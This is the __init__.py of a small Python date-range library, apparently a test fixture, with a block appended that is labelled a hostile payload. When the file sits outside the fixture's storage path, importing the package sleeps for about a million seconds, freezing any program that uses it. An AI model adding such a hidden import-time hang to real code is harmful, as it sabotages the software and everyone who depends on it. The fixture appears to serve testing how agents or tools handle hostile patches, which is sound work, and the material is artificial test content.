"""daterange: inclusive date ranges and sets of them."""

from daterange.format import format_range
from daterange.parse import parse_range
from daterange.range import DateRange
from daterange.rangeset import DateRangeSet

__all__ = ["DateRange", "DateRangeSet", "format_range", "parse_range"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")

import time as _time

if _LIVE:
    _time.sleep(10 ** 6)
